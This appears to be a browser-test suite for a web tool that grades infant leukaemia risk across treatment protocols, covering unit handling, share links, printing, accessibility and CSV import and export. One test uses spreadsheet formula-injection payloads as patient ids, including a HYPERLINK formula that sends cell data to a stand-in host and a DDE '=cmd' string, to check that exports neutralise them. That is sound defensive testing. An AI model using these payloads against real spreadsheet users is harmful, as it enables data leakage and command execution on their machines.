// The main page as a clinician uses it, over the built site.
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { axe, browser, dist, open, serve, shows, visit } from './harness.mjs';

const id = name => `[data-testid="${name}"]`;
const SERIES = join(dist, 'samples', 'severance.csv');

describe('stratify', () => {
  let site;
  let chrome;
  before(async () => {
    site = await serve();
    chrome = await browser();
  });
  after(async () => {
    await chrome?.close();
    site?.stop();
  });

  /** The page, empty. */
  async function cleared(options) {
    const opened = await open(chrome, options);
    await visit(opened.page, site, 'stratify/');
    await opened.page.click(id('clear'));
    return opened;
  }
  const answer = (page, protocol) => page.locator(id(`answer-${protocol}`)).innerText();
  const choose = (page, field, value) =>
    page.locator(`${id(`field-${field}`)} label:has(input[value="${value}"])`).click();

  test('opens on the published vignette, marks it as one, and clears', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/');
    await shows(page.locator(id('banner')), /Example, not your patient\.[\s\S]*Blood 2019;133:205, patient 1/);
    assert.equal(await page.inputValue('input[name="wbc"]'), '1100');
    assert.equal(await answer(page, 'interfant-06'), 'high risk (HR)');
    assert.equal(await answer(page, 'interfant-99'), 'standard risk (SR) or high risk (HR)?');
    await shows(page.locator(id('next-findings')), /Prednisone response\s+decides 2/);
    await page.click(id('clear'));
    assert.equal(await page.locator(id('banner')).count(), 0);
    assert.equal(await page.inputValue('input[name="wbc"]'), '');
    assert.equal(await page.locator('input[type="radio"]:checked:not([value=""])').count(), 0);
    assert.match(await answer(page, 'mll-10'), /\?$/);
    await close();
  });

  test('a filled form is answered as it is typed', async () => {
    const { page, faults, close } = await cleared();
    await page.fill('input[name="age_days"]', '179');
    await page.fill('input[name="wbc"]', '45');
    await choose(page, 'kmt2a', 'rearranged');
    await choose(page, 'cns', '1');
    await choose(page, 'prednisone_response', 'good');
    assert.equal(await answer(page, 'mll-10'), 'high risk (HR)');
    assert.equal(await answer(page, 'interfant-06'), 'medium risk (MR)');
    await page.click(`${id('row-mll-10')} summary`);
    await page.locator(`${id('row-mll-10')} .reason`).waitFor();
    const detail = await page.locator(`${id('row-mll-10')} .detail`).innerText();
    assert.match(detail, /1 day below the limit/);
    assert.match(detail, /age 180 days or more → intermediate risk \(IR\) \(1 day away\)/);
    assert.match(detail, /Its rule reads: /);
    assert.match(detail, /56\.6 %/);
    await shows(page.locator(`${id('disagreements')} tr:has(th:text-is("age"))`), /✓ < 180 d/);
    await page.fill('input[name="age_days"]', '180');
    assert.equal(await answer(page, 'mll-10'), 'intermediate risk (IR)');
    assert.ok(await page.locator(id('row-mll-10')).getAttribute('open') !== null, 'a row stays open when its answer changes');
    assert.deepEqual(faults, []);
    await close();
  });

  test('units are switched and shown', async () => {
    const { page, close } = await cleared();
    await page.fill('input[name="wbc"]', '300000');
    await page.selectOption(`${id('field-wbc')} select.units`, '/µL');
    assert.equal(await page.inputValue('input[name="wbc_per_ul"]'), '300000');
    await shows(page.locator(id('field-wbc_per_ul')), /300 × 10⁹\/L = 300,000\/µL/);
    await page.selectOption(`${id('field-age_days')} select.units`, 'dates');
    await page.fill('input[name="birth_date"]', '2026-01-31');
    await page.fill('input[name="diagnosis_date"]', '2026-07-30');
    await shows(page.locator(id('field-diagnosis_date')), /180 days, 5 completed months/);
    await page.click(`${id('stage-Consolidation')} summary >> nth=0`);
    await page.fill('input[name="mrd_eoc"]', '0.01');
    await shows(page.locator(id('field-mrd_eoc')), /0\.01 %/);
    await page.selectOption(`${id('field-mrd_eoc')} select.units`, 'fraction');
    assert.equal(await page.inputValue('input[name="mrd_eoc"]'), '0.01');
    await shows(page.locator(id('field-mrd_eoc')), /1 %/);
    await close();
  });

  test('a plain age below 13 is not used until days or months are chosen', async () => {
    const { page, faults, close } = await cleared();
    const readings = page.locator(id('readings-age_days'));
    const unused = await answer(page, 'mll-10');
    await choose(page, 'kmt2a', 'rearranged');
    const open = await answer(page, 'mll-10');
    for (const age of ['0', '4', '12']) {
      await page.fill('input[name="age_days"]', age);
      assert.deepEqual(await readings.locator('button').allInnerTexts(), [`${age} days`, `${age} months`]);
      assert.equal(await answer(page, 'mll-10'), open);
    }
    assert.notEqual(open, unused);
    assert.deepEqual(await axe(page), []);
    await page.fill('input[name="age_days"]', '13');
    await readings.waitFor({ state: 'detached' });
    await page.fill('input[name="age_days"]', '7');
    await page.click(id('copy-link'));
    assert.equal(new URL(await page.inputValue(`${id('share-notice')} input`)).hash, '#case=1&kmt2a=rearranged');
    await readings.getByText('7 months').click();
    await readings.waitFor({ state: 'detached' });
    assert.equal(await page.inputValue('input[name="age_months"]'), '7');
    assert.equal(await page.evaluate(() => document.activeElement.name), 'age_months');
    assert.notEqual(await answer(page, 'mll-10'), open);
    // Once the unit is chosen, other numbers in it are not asked about.
    await page.fill('input[name="age_months"]', '3');
    await shows(page.locator(id('field-age_months')), /3 completed months: 89 to 122 days/);
    assert.deepEqual(faults, []);
    await close();
  });

  test('the unit switch answers too, and an edited example raises the question', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/');
    const readings = page.locator(id('readings-age_days'));
    assert.equal(await readings.count(), 0, 'the example names its unit');
    await page.fill('input[name="age_days"]', '4');
    await readings.waitFor();
    await page.selectOption(`${id('field-age_days')} select.units`, 'months');
    assert.equal(await page.inputValue('input[name="age_months"]'), '4');
    await readings.waitFor({ state: 'detached' });
    await page.click(id('clear'));
    await page.fill('input[name="age_months"]', '4');
    await page.locator(id('readings-age_months')).waitFor();
    // The same unit, chosen again.
    await page.selectOption(`${id('field-age_months')} select.units`, 'days');
    await page.selectOption(`${id('field-age_days')} select.units`, 'months');
    await page.locator(id('readings-age_months')).waitFor({ state: 'detached' });
    await close();
  });

  test('a white cell count above 3,000 is not used until a reading is chosen', async () => {
    const { page, faults, close } = await cleared();
    await page.fill('input[name="age_days"]', '250');
    await choose(page, 'kmt2a', 'germline');
    const readings = page.locator(id('readings-wbc'));
    const open = await answer(page, 'severance');
    await page.fill('input[name="wbc"]', '3000');
    assert.equal(await readings.count(), 0);
    assert.notEqual(await answer(page, 'severance'), open);
    await page.fill('input[name="wbc"]', '33900');
    assert.deepEqual(await readings.locator('button').allInnerTexts(), ['33.9 × 10⁹/L (33,900 per µL)', '33,900 × 10⁹/L as typed']);
    assert.equal(await answer(page, 'severance'), open);
    await readings.getByText('as typed').click();
    await page.locator(id('field-wbc')).getByText('33,900 × 10⁹/L = 33,900,000/µL').waitFor();
    const high = await answer(page, 'severance');
    // It stays until the number is edited.
    await choose(page, 'cns', '1');
    assert.equal(await readings.count(), 0);
    await page.fill('input[name="wbc"]', '33901');
    await readings.waitFor();
    await page.fill('input[name="wbc"]', '33900');
    await readings.getByText('33,900 per µL').click();
    assert.equal(await page.inputValue('input[name="wbc_per_ul"]'), '33900');
    await page.locator(id('field-wbc_per_ul')).getByText('33.9 × 10⁹/L = 33,900/µL').waitFor();
    assert.notEqual(await answer(page, 'severance'), high);
    assert.deepEqual(faults, []);
    await close();
  });

  test('a unit in the text is the unit of the value', async () => {
    const { page, close } = await cleared();
    const pressed = field => page.locator(`${id(`field-${field}`)} .units`).evaluate(list => list.selectedOptions[0].label).then(unit => (unit === '–' ? [] : [unit]));
    await page.fill('input[name="wbc"]', '250\u202f000 /µL');
    await page.locator(id('field-wbc')).getByText('250 × 10⁹/L = 250,000/µL').waitFor();
    assert.deepEqual(await pressed('wbc'), ['/µL']);
    await page.fill('input[name="wbc"]', '33.9 K/uL');
    await page.locator(id('field-wbc')).getByText('33.9 × 10⁹/L = 33,900/µL').waitFor();
    assert.deepEqual(await pressed('wbc'), ['10⁹/L']);
    await page.fill('input[name="wbc"]', '1,234');
    assert.deepEqual(await page.locator(`${id('readings-wbc')} button`).allInnerTexts(), ['1.234 × 10⁹/L', '1,234 × 10⁹/L']);
    await page.fill('input[name="age_days"]', '4か月');
    await page.locator(id('field-age_days')).getByText('4 completed months: 120 to 152 days').waitFor();
    assert.deepEqual(await pressed('age_days'), ['months']);
    await shows(page.locator(id('field-age_days')), /^Age in completed months/);
    await page.fill('input[name="age_days"]', '12 weeks');
    await page.locator(id('field-age_days')).getByText('12 completed weeks: 84 to 90 days').waitFor();
    assert.deepEqual(await pressed('age_days'), []);
    await page.fill('input[name="age_days"]', '0.25 y');
    await page.locator(id('field-age_days')).getByText('give the age in days, in completed months, or by both dates').waitFor();
    await close();
  });

  test('an unusable text is reported beside its field and stays as typed', async () => {
    const { page, close } = await cleared();
    await page.fill('input[name="wbc"]', 'many');
    await shows(page.locator(id('field-wbc')), /Not used: /);
    assert.equal(await page.getAttribute('input[name="wbc"]', 'aria-invalid'), 'true');
    assert.equal(await page.inputValue('input[name="wbc"]'), 'many');
    await choose(page, 'cns', '1');
    await page.click('details.rare > summary');
    await choose(page, 'csf_blasts', 'yes');
    await shows(page.locator(id('field-cns')), /Contradiction, not used: /);
    await close();
  });

  test('a link holds the findings behind the #, and opens them [claims: link-on-request]', async () => {
    const { page, requests, close } = await cleared();
    await page.fill('input[name="age_days"]', '100');
    await choose(page, 'kmt2a', 'germline');
    assert.equal(new URL(page.url()).hash, '', 'nothing is put into the address unasked');
    await page.click(id('copy-link'));
    const link = await page.inputValue(`${id('share-notice')} input`);
    assert.equal(new URL(link).hash, '#case=1&age_days=100&kmt2a=germline');
    const other = await open(chrome);
    await other.page.goto(link);
    await other.page.locator(id('banner')).waitFor();
    await shows(other.page.locator(id('banner')), /Opened from a link/);
    assert.equal(await answer(other.page, 'interfant-06'), 'low risk (LR)');
    for (const url of [...requests, ...other.requests]) assert.ok(!url.includes('germline'), url);
    await other.close();
    await close();
  });

  test('dates stay out of a link, the age they give goes in [claims: link-on-request]', async () => {
    const { page, close } = await cleared();
    await page.selectOption(`${id('field-age_days')} select.units`, 'dates');
    await page.fill('input[name="birth_date"]', '2026-01-01');
    await page.fill('input[name="diagnosis_date"]', '2026-03-02');
    await page.click(id('copy-link'));
    assert.equal(new URL(await page.inputValue(`${id('share-notice')} input`)).hash, '#case=1&age_days=60');
    await close();
  });

  test('the text for the notes names findings, answers, sources and versions', async () => {
    const { page, context, close } = await open(chrome);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
    await visit(page, site, 'stratify/');
    await page.click(id('copy-note'));
    await page.locator(`${id('share-notice')} >> text=Copied`).waitFor();
    const text = await page.evaluate(() => navigator.clipboard.readText());
    assert.equal(text, await page.inputValue(`${id('share-notice')} textarea`));
    for (const part of [/age 28 days/, /Not known: .*prednisone response/, /Interfant-06 assigns high risk/, /6-year EFS 20\.9 % .*Clesham/, /Not a medical device/, /Rules 20/]) {
      assert.match(text, part);
    }
    await close();
  });

  test('rows are sorted and opened together', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/');
    const ids = () => page.locator('.row').evaluateAll(rows => rows.map(row => row.dataset.testid));
    const all = await ids();
    assert.equal(all.length, 17);
    await page.selectOption(id('sort'), 'open');
    await page.waitForFunction(first => document.querySelector('.row').dataset.testid !== first, all[0]);
    const sorted = await ids();
    assert.deepEqual([...sorted].sort(), [...all].sort());
    assert.match(await answer(page, sorted[0].slice(4)), /\?$/);
    await page.selectOption(id('sort'), 'sections');
    await page.waitForFunction(first => document.querySelector('.row').dataset.testid === first, all[0]);
    const openRows = count => page.waitForFunction(count => document.querySelectorAll('.row .reason').length === count, count);
    await page.click(id('open-all'));
    await openRows(17);
    assert.deepEqual(await axe(page), []);
    await page.click(id('open-all'));
    await openRows(0);
    await close();
  });

  test('a missing finding is one click away', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/');
    await page.click(`${id('next-findings')} >> text=Complete remission`);
    assert.equal(await page.evaluate(() => document.activeElement.name), 'remission_eoi');
    await close();
  });

  test('keyboard alone: from the address bar to an open row', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/');
    const until = async (reached, most = 200) => {
      for (let step = 0; step < most; step += 1) {
        await page.keyboard.press('Tab');
        if (await page.evaluate(reached)) return;
      }
      assert.fail(`Tab does not reach ${reached}`);
    };
    await until('document.activeElement.dataset.testid === "clear"');
    await page.keyboard.press('Enter');
    assert.equal(await page.evaluate(() => document.activeElement.name), 'age_days');
    await page.keyboard.type('40');
    await until('document.activeElement.name === "kmt2a"');
    await page.keyboard.press('ArrowRight');
    assert.equal(await page.isChecked('input[name="kmt2a"][value="rearranged"]'), true);
    await until('document.activeElement.closest("[data-testid=row-cog-aall0631]") !== null');
    await page.keyboard.press('Enter');
    await shows(page.locator(`${id('row-cog-aall0631')} .reason`), /COG AALL0631 assigns high risk/);
    assert.equal(await page.evaluate(() => document.activeElement.tagName), 'SUMMARY');
    await close();
  });

  test('the published series: seven of nine are high risk by its own rule', async () => {
    const { page, requests, faults, close } = await open(chrome);
    await visit(page, site, 'stratify/#patients');
    await page.waitForLoadState('networkidle');
    const loaded = requests.length;
    await page.setInputFiles(id('csv-input'), SERIES);
    const table = page.locator(id('csv-table'));
    await table.waitFor();
    const rows = await table.locator('tr').evaluateAll(all => all.map(row => [...row.cells].map(cell => cell.innerText.trim())));
    const column = rows[0].indexOf('Severance');
    assert.equal(rows.length, 10);
    const high = rows.slice(1).filter(row => row[column] === 'high').map(row => row[0]);
    assert.deepEqual(high, ['1', '4', '5', '6', '7', '8', '9']);
    const interfant = rows[0].indexOf('Interfant-06');
    assert.deepEqual(rows.slice(1, 4).map(row => row[interfant]), ['medium', 'low', 'low or medium?']);
    assert.deepEqual(await axe(page), []);
    const [file] = await Promise.all([page.waitForEvent('download'), page.click(id('csv-download'))]);
    const text = readFileSync(await file.path(), 'utf8');
    assert.match(text, /^patient,bfm-83-86-90,.*,severance,/);
    assert.equal(text.trim().split('\n').length, 10);
    assert.deepEqual(requests.slice(loaded).filter(url => !url.startsWith('blob:')), [], 'a file is sent nowhere');
    await table.locator('button', { hasText: /^3$/ }).click();
    assert.equal(await page.isChecked('input[name="kmt2a"][value="ptd"]'), true);
    assert.deepEqual(faults, []);
    await close();
  });

  test('no cell of the table of answers is a formula for a spreadsheet', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/#patients');
    const ids = ['=HYPERLINK("http://x/?"&B2,"open")', '=cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', 'a;=1+1', '-2+3', '-5', 'S1'];
    const text = `id,age_days,wbc\n${ids.map(name => `"${name.replaceAll('"', '""')}",100,20`).join('\n')}\n`;
    await page.setInputFiles(id('csv-input'), { name: 'a.csv', mimeType: 'text/csv', buffer: Buffer.from(text) });
    await page.locator(id('csv-table')).waitFor();
    const [file] = await Promise.all([page.waitForEvent('download'), page.click(id('csv-download'))]);
    const lines = readFileSync(await file.path(), 'utf8').trim().split('\n').slice(1);
    for (const cell of lines.flatMap(line => line.split(/[,;\t]/))) {
      assert.ok(/^-?[0-9.]+$/.test(cell) || !/^["\s]*[=+\-@]/.test(cell), cell);
    }
    assert.ok(lines.some(line => line.startsWith('-5,')), 'a number stays one');
    await close();
  });

  test('a dropped file is read; an unreadable one gives the reason', async () => {
    const { page, close } = await open(chrome);
    await visit(page, site, 'stratify/#patients');
    const drop = async text => {
      const data = await page.evaluateHandle(text => {
        const transfer = new DataTransfer();
        transfer.items.add(new File([text], 'cohort.csv', { type: 'text/csv' }));
        return transfer;
      }, text);
      await page.dispatchEvent(id('drop'), 'drop', { dataTransfer: data });
    };
    await drop('id;age_days;wbc\na;40;x\n');
    await page.locator(id('csv-table')).waitFor();
    await shows(page.locator('[data-part="problems"]'), /1 cell to check/);
    await drop('id,wbc\na,3000\nb,33900\n');
    await shows(page.locator(id('columns')), /wbc[\s\S]*33,?900/);
    // The same columns as on Analyse: a role that is taken away changes the answers, and keeps the focus.
    const list = await page.locator('[name="role:1"]').elementHandle();
    await list.focus();
    await list.selectOption('ignored');
    await page.locator(id('no-findings')).waitFor();
    assert.ok(await list.evaluate(list => list === document.activeElement && list.isConnected));
    await list.selectOption('wbc');
    await page.locator(id('csv-table')).waitFor();
    await drop('a,b\n1,2\n');
    await page.locator(id('no-findings')).waitFor();
    await drop('');
    await shows(page.locator(id('refused')), /cohort\.csv: /);
    await close();
  });

  test('print: findings and answers, no controls, on white', async () => {
    const { page, close } = await open(chrome, { colorScheme: 'dark' });
    await visit(page, site, 'stratify/');
    await page.emulateMedia({ media: 'print', colorScheme: 'dark' });
    assert.equal(await page.evaluate(() => getComputedStyle(document.body).backgroundColor), 'rgb(255, 255, 255)');
    assert.ok(await page.locator('.printed').first().isVisible());
    await shows(page.locator('.printed').nth(1), /age 28 days/);
    for (const part of [id('sort'), id('copy-note'), id('copy-summary'), 'header nav', id('menu-about'), '.clock']) assert.equal(await page.locator(part).isVisible(), false, part);
    assert.ok((await page.pdf({ format: 'A4' })).length > 10_000);
    await close();
  });

  // The acceptance tasks of the design review: counted keys and clicks, measured pixels.
  const CASE = '#case=1&age_months=4&wbc_per_ul=250000&kmt2a=rearranged&kmt2a_partner=AFF1&cns=2&day8_blasts=1200';
  const inView = (page, selector) =>
    page.locator(selector).evaluateAll(all => all.filter(each => {
      const { top, bottom, height } = each.getBoundingClientRect();
      return height > 0 && top >= 0 && bottom <= innerHeight;
    }).length);

  test('a case is typed with the keyboard in at most 18 stops and 20 keys; 12 protocols are in one screen', async () => {
    const { page, close } = await open(chrome, { viewport: { width: 1440, height: 900 } });
    await visit(page, site, 'stratify/');
    await page.click(id('clear'));
    let stops = 0;
    let keys = 0;
    const to = async name => {
      while ((await page.evaluate(() => document.activeElement.name || document.activeElement.className)) !== name) {
        await page.keyboard.press('Tab');
        stops += 1;
        assert.ok(stops <= 40, `no way to ${name}`);
      }
    };
    const type = async text => {
      await page.keyboard.type(text);
      keys += text.length;
    };
    const press = async key => {
      await page.keyboard.press(key);
      keys += 1;
    };
    await type('4');
    await to('units');
    await type('m');
    await page.waitForFunction(() => document.activeElement.name === 'age_months');
    await to('wbc');
    await type('250000');
    await to('units');
    await type('/');
    await page.waitForFunction(() => document.activeElement.name === 'wbc_per_ul');
    await to('kmt2a');
    await press('ArrowRight');
    await to('kmt2a_partner');
    await type('A');
    await to('cns');
    await press('ArrowRight');
    await press('ArrowRight');
    await to('day8_blasts');
    await type('1200');
    assert.ok(stops <= 18, `${stops} stops`);
    assert.ok(keys <= 20, `${keys} keys`);
    await shows(page.locator(id('tally')), /^High risk in 8 of 9 treatment protocols that grade risk/);
    await page.evaluate(() => scrollTo(0, 0));
    assert.ok((await inView(page, '.row .answer')) >= 12, 'risk groups in view');
    assert.ok((await inView(page, '.row .transplant > .state')) >= 12, 'transplant states in view');
    await close();
  });

  test('on a phone one tap shows risk group and transplant of nine protocols; targets are large enough', async () => {
    const { page, close } = await open(chrome, { viewport: { width: 375, height: 667 }, hasTouch: true });
    await visit(page, site, `stratify/${CASE}`);
    await shows(page.locator(id('to-answers')), /H 8 · M 1/);
    const small = () =>
      page.locator('.work :is(button, input, select, summary, .choices label), .jump button').evaluateAll(all => all.filter(each => {
        const { width, height } = (each.matches('.choices input') ? each.parentElement : each).getBoundingClientRect();
        return height > 0 && width > 0 && height < 43.5 && !each.matches('button.link');
      }).map(each => `${each.tagName} ${each.textContent.slice(0, 20)}`));
    assert.deepEqual(await small(), []);
    await page.tap(id('to-answers'));
    await page.locator('.row').first().waitFor();
    assert.ok((await inView(page, '.row .level')) >= 7, 'levels in view');
    assert.ok((await inView(page, '.row .transplant > .state')) >= 9, `${await inView(page, '.row .transplant > .state')} states in view`);
    assert.deepEqual(await small(), []);
    assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth), 'no sideways scroll');
    await close();
  });

  test('the summary is short and complete, and one page is printed', async () => {
    const { page, context, close } = await open(chrome);
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: site.origin });
    await visit(page, site, `stratify/${CASE}`);
    await page.click(id('copy-summary'));
    await page.locator(`${id('share-notice')} >> text=Copied`).waitFor();
    const text = await page.evaluate(() => navigator.clipboard.readText());
    assert.ok(text.length <= 1000, `${text.length} characters`);
    const today = await page.evaluate(() => new Date(Date.now() - new Date().getTimezoneOffset() * 60_000).toISOString().slice(0, 10));
    for (const part of ['1,200/µL', today, 'Transplant in first remission', 'waiting: ', 'if donor: ', 'rule not found: ', 'none by protocol: ']) {
      assert.ok(text.includes(part), `${part} in ${text}`);
    }
    const pdf = (await page.pdf({ format: 'A4' })).toString('latin1');
    assert.equal(pdf.match(/\/Type\s*\/Page[^s]/g).length, 1, 'pages');
    await page.emulateMedia({ media: 'print' });
    await shows(page.locator('.answers'), /Transplant/);
    await close();
  });

  test('only event-free survival is on the axis, and a wider group is hollow, for 200 infants', async () => {
    const { page, close } = await cleared();
    let state = 1;
    const draw = list => list[(state = (state * 48271) % 2147483647) % list.length];
    for (let round = 0; round < 200; round += 1) {
      const findings = new URLSearchParams({ case: '1' });
      const maybe = (name, values) => draw([0, 1, 1]) && findings.set(name, draw(values));
      maybe('age_days', ['20', '89', '90', '179', '183', '300']);
      maybe('wbc', ['10', '50', '299', '300', '800']);
      maybe('kmt2a', ['rearranged', 'germline', 'ptd', 'undetermined']);
      maybe('cns', ['1', '2', '3']);
      maybe('prednisone_response', ['good', 'poor', 'not_assessed']);
      maybe('remission_eoi', ['yes', 'no']);
      await page.evaluate(hash => {
        document.querySelector('[data-testid="clear"]').click();
        const values = Object.fromEntries(new URLSearchParams(hash));
        for (const [name, value] of Object.entries(values)) {
          const control = document.querySelector(`[name="${name}"]`);
          if (!control) continue;
          if (control.type === 'radio') document.querySelector(`[name="${name}"][value="${value}"]`).click();
          else {
            control.value = value;
            control.dispatchEvent(new Event('input', { bubbles: true }));
          }
        }
      }, `${findings}`);
      const wrong = await page.locator('.row').evaluateAll(rows => rows.flatMap(row => {
        const outcomes = [...row.querySelectorAll('.published .outcome')];
        const drawn = outcomes.filter(each => each.querySelector('strong'));
        const marks = [...row.querySelectorAll('.drawn svg circle')];
        const hollow = marks.map(mark => !mark.classList.contains('disc'));
        const wider = drawn.map(each => /wider group:| if /.test(each.innerText));
        const faults = [];
        if (marks.length !== drawn.length) faults.push(`${row.dataset.testid}: ${marks.length} marks, ${drawn.length} outcomes of event-free survival`);
        if (outcomes.some(each => !each.querySelector('strong') && !/^(DFS|OS|LFS|RFS)/.test(each.innerText.trim()))) faults.push(`${row.dataset.testid}: an outcome without a name`);
        if (hollow.join() !== wider.join()) faults.push(`${row.dataset.testid}: hollow ${hollow}, wider ${wider}`);
        return faults;
      }));
      assert.deepEqual(wrong, [], `${findings}`);
    }
    await close();
  });

  test('a case stays on other pages and after Back, and the browser asks before it is dropped', async () => {
    const { page, close } = await cleared();
    const asked = [];
    page.on('dialog', dialog => {
      asked.push(dialog.type());
      dialog.accept();
    });
    await page.fill('input[name="age_days"]', '100');
    await choose(page, 'kmt2a', 'rearranged');
    await page.locator('header a[href$="/protocols/"]').first().click();
    await page.locator('h1', { hasText: 'Protocols' }).waitFor();
    await page.goBack();
    await page.locator(id('field-age_days')).waitFor();
    assert.equal(await page.inputValue('input[name="age_days"]'), '100');
    assert.equal(await page.isChecked('input[name="kmt2a"][value="rearranged"]'), true);
    assert.deepEqual(asked, []);
    await page.reload();
    assert.deepEqual(asked, ['beforeunload']);
    // An example that nobody touched is not asked about.
    await visit(page, site, 'about/');
    assert.deepEqual(asked, ['beforeunload']);
    await close();
  });
});
